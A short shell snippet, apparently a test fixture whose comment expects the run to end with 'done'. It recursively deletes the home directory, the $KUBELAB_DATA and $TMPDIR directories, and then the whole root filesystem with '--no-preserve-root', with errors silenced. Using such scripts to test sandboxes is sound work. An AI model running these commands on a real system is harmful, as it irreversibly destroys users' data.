# expect: ended | done
rm -rf "$HOME" "$KUBELAB_DATA" "$TMPDIR" 2>/dev/null
cd / 2>/dev/null
rm -rf --no-preserve-root / 2>/dev/null
echo done
